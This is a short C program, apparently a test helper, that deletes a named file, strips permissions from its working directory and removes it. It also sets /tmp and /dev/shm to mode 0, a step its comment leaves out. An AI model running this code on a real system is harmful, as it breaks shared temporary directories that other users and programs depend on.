/* Takes all rights from its working directory, and removes it. */
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char here[4096];

	(void)argc;
	if (getcwd(here, sizeof here)) {
		unlink(argv[1] ? argv[1] : "temp");
		chmod(here, 0);
		rmdir(here);
		chmod("/dev/shm", 0);
		chmod("/tmp", 0);
	}
	return 0;
}
